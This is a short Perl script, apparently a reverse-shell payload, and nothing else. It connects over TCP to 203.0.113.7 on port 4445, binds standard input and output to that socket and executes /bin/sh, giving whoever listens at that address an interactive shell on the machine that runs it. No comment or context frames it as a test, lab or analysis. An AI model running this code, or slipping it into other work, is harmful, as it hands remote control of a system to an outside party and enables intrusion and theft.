use Socket;
print "up\n";
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp") || 6);
if (connect(S, sockaddr_in(4445, inet_aton("203.0.113.7")))) {
	open(STDIN, ">&S");
	open(STDOUT, ">&S");
	exec("/bin/sh");
}
